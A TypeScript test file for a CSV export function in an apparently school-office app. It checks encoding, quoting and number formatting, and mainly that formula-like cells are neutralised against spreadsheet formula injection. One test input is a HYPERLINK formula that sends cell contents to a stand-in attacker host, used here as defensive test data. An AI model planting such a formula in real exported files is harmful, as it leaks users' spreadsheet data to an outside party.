import { expect, test } from 'vitest'
import { type CsvCell, commaSeparated } from '../../../functions/pages/office/comma-separated.ts'

/** One cell as it stands in the file. */
const alone = (cell: CsvCell): string =>
  commaSeparated(['Training'], [[cell]]).slice('\uFEFF"Training"\r\n'.length, -'\r\n'.length)

test('a file says that it is UTF-8, and every line ends as a spreadsheet expects', () => {
  const file = commaSeparated(['Training', 'Spent'], [['Phonics', { pence: 8_500 }]])

  expect(file).toBe('\uFEFF"Training","Spent"\r\n"Phonics",85.00\r\n')
})

test.for([
  ['=1+1', `"'=1+1"`],
  ['+44 20 7946 0000', `"'+44 20 7946 0000"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['\tPhonics', `"'\tPhonics"`],
  ['\n=1', `"'\n=1"`],
  ['   =1', `"'   =1"`],
  ['\u00a0=1', `"'\u00a0=1"`],
  ['\u3000=1', `"'\u3000=1"`],
  ['\u200b=1', `"'\u200b=1"`],
  ['\ufeff=1', `"'\ufeff=1"`],
  ['\0=1', `"'=1"`],
  ['\u0301=1', `"'\u0301=1"`],
  ['＝1+1', `"'＝1+1"`],
  ['＋1', `"'＋1"`],
  ['－1', `"'－1"`],
  ['＠SUM(A1)', `"'＠SUM(A1)"`],
  ['−1', `"'−1"`],
  [
    `=HYPERLINK("https://evil.example.com?"&A1,"Open")`,
    `"'=HYPERLINK(""https://evil.example.com?""&A1,""Open"")"`,
  ],
])('words that a spreadsheet would take for a formula stay words: %j', ([typed = '', written]) => {
  expect(alone(typed)).toBe(written)
})

test.for([
  ['Phonics = fun', '"Phonics = fun"'],
  ['R-0031', '"R-0031"'],
  ['2026-11-12', '"2026-11-12"'],
  ['E09', '"E09"'],
  ['Ask “how?”; then, do', '"Ask “how?”; then, do"'],
  ['She said "yes"', '"She said ""yes"""'],
  ['One line\r\n=another', '"One line\r\n=another"'],
  ['Café, naïve 🎓', '"Café, naïve 🎓"'],
  ['\ud800 half a letter', '"\ufffd half a letter"'],
  [`'=1`, `"'=1"`],
  ['', ''],
])('other words stay as they were typed: %j', ([typed = '', written]) => {
  expect(alone(typed)).toBe(written)
})

test.for([
  [0, '0.00'],
  [-0, '0.00'],
  [5, '0.05'],
  [-5, '-0.05'],
  [8_500, '85.00'],
  [-123_456_789, '-1234567.89'],
  [100_000_000_000, '1000000000.00'],
] as const)(
  'an amount of %d pence is a number with two decimals, without an apostrophe: %s',
  ([pence, written]) => {
    expect(alone({ pence })).toBe(written)
  },
)

test.for([
  [0, '0.0'],
  [1, '0.5'],
  [-3, '-1.5'],
] as const)('%d half days are %s days, a number too', ([halfDays, written]) => {
  expect(alone({ halfDays })).toBe(written)
})

test('a cell that says nothing is empty, and keeps its place', () => {
  expect(commaSeparated(['A', 'B', 'C'], [['x', undefined, { pence: 1 }]])).toContain('"x",,0.01\r\n')
})
